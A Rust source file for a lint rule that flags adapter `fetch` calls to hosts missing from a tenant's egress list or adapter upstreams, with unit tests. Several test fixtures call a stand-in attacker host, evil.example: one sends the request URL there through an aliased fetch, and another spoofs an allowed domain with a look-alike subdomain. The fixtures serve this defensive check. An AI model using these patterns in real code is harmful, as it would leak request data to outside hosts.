use super::{Docs, Group, Rule};
use crate::context::Context;
use crate::diagnostic::Severity;
use crate::outbound::covers;

pub struct HostNotAllowed;

static DOCS: Docs = Docs {
    id: "host-not-allowed",
    group: Group::Tenant,
    severity: Severity::Error,
    what: "`fetch` of a host that is not on the tenant's egress list, or not among the upstreams of adapter.toml (warning).",
    why: "The outbound worker refuses calls to hosts that the tenant has not allowed, so the call fails with 403 at run time.",
    good: "egress = [\"api.notion.com\"]      # tenant.toml\nupstreams = [\"api.notion.com\"]   # adapter.toml",
};

impl Rule for HostNotAllowed {
    fn docs(&self) -> &'static Docs {
        &DOCS
    }

    fn check(&self, context: &Context<'_, '_>) {
        for call in context.outbound_calls() {
            let file = &context.files[call.file];
            let host = call.host;
            let refused_by = context.tenant.filter(|tenant| !covers(tenant.egress, host));
            if let Some(tenant) = refused_by {
                context
                    .report(
                        file,
                        call.span,
                        format!("`{host}` is not on the egress list of tenant `{}`, so the call is refused", tenant.id),
                    )
                    .help(format!("Add \"{host}\" to `egress` in tenant.toml, if the adapter should call it"));
            } else if context.manifest.is_some_and(|manifest| !covers(&manifest.upstreams, host)) {
                context
                    .report(file, call.span, format!("`{host}` is not among the upstreams of the adapter"))
                    .severity(Severity::Warning)
                    .help(format!("Add \"{host}\" to `upstreams` in adapter.toml"));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::tester::{Case, handler, test};
    use serde_json::json;

    fn notion(case: Case) -> Case {
        case.manifest(&json!({ "upstreams": ["api.notion.com", "*.airtable.com"] }))
            .egress(&["api.notion.com", "*.airtable.com"])
    }

    #[test]
    fn cases() {
        test(
            &super::HostNotAllowed,
            &[
                notion(handler("return fetch('https://api.notion.com/v1/pages');")),
                notion(handler("return fetch(new URL('/v0', 'https://api.airtable.com'));")),
                notion(handler("return fetch(`https://${env.HOST}/x`);")),
                notion(handler("return fetch(request);")),
                notion(handler("const fetch = () => ({}); return fetch('https://evil.example/');")),
                handler("return fetch('https://anything.example/');"),
            ],
            &[
                notion(handler("return fetch('https://hooks.zapier.com/hooks/catch/');")),
                notion(handler(
                    "const API = 'https://evil.example'; const send = fetch; return send(`${API}/v1/${request.url}`);",
                )),
                notion(handler("return fetch(new Request('https://api.notion.com.evil.example/v1'));")),
                notion(handler("return fetch('https://airtable.com/');")),
                handler("return fetch('https://api.slack.com/');")
                    .manifest(&json!({ "upstreams": ["api.notion.com"] }))
                    .egress(&["api.notion.com", "api.slack.com"]),
            ],
        );
    }
}
